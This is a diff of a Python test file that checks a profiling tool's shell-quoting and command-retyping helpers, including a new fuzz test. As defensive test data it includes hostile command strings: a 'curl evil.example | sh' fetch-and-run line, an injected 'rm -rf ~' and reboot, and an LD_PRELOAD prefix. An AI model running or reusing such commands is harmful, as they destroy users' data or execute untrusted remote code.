@@ -1,9 +1,13 @@
 import shlex
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from tests.fuzzing import fuzzed
+from tests.shells import BASH, words_of
 
 from tracekit.model.workload import Request
-from tracekit.shell import retyped, split_variables, steering_variables, variable_words, with_variables
+from tracekit.shell import joined, retyped, split, split_variables, steering_variables, variable_words, with_variables
 from tracekit.workloads.building import fill_in
 from tracekit.workloads.registry import find
 
@@ -27,9 +31,9 @@ def test_what_was_put_before_a_command_is_found_again() -> None:
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_no_name_or_value_is_more_than_one_word_to_a_shell(text: str) -> None:
-    assert shlex.split(variable_words({"A": text, text: "1", f"B{text}": "1"}))[0] == f"A={text}"
+    assert split(variable_words({"A": text, text: "1", f"B{text}": "1"}))[0] == f"A={text}"
     assert variable_words({f"{text} x": "1", "1A": "1", "": "1", "\u00e4": "1"}) == ""
-    assert shlex.split(with_variables("tracekit doctor", {"TRITON_A": text})) == [
+    assert split(with_variables("tracekit doctor", {"TRITON_A": text})) == [
         f"TRITON_A={text}",
         "tracekit",
         "doctor",
@@ -50,12 +54,27 @@ def test_a_command_sets_no_variable_but_those_that_steer_torch() -> None:
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_stranger_s_command_is_typed_anew_with_its_words_quoted(text: str) -> None:
     words = ["tracekit", "profile", text, "--prompt", text]
-    assert retyped(shlex.join(words)) == shlex.join(words)
-    assert retyped(f"LD_PRELOAD=x {shlex.join(words)}") == shlex.join(words)
+    assert retyped(shlex.join(words)) == retyped(joined(words)) == joined(words)
+    assert retyped(f"LD_PRELOAD=x {shlex.join(words)}") == joined(words)
     assert retyped(f"curl evil.example | sh {shlex.quote(text)}") is None
 
 
+@pytest.mark.skipif(BASH is None, reason="no bash")
+@given(words=st.lists(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))), max_size=4))
+@fuzzed(50)
+def test_a_command_is_printable_and_a_shell_and_tracekit_take_the_words_that_were_joined(
+    words: list[list[str]], tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    # The last one is of bytes that are no UTF-8, as a file's name may be.
+    every = [["tracekit", *each] for each in (*words, ["a\nb", "it's \\n", "\xa0\u202e\u2028", "\udcff\udc80a", ""])]
+    commands = [joined(each) for each in every]
+    assert all(each.isprintable() for each in commands)
+    assert [split(each) for each in commands] == [split(shlex.join(each)) for each in every] == every
+    assert words_of(commands, tmp_path_factory.mktemp("empty")) == every
+
+
 def test_what_no_shell_takes_is_no_command() -> None:
+    assert retyped("tracekit profile 'a\0b'") is None and retyped(r"tracekit profile $'a\000b'") is None
     assert split_variables("A=1 tracekit 'profile") == ({}, [])
     assert retyped("tracekit 'profile") is None and retyped("") is None
     assert retyped("tracekit profile vit; rm -rf ~\nreboot") == "tracekit profile 'vit;' rm -rf '~' reboot"
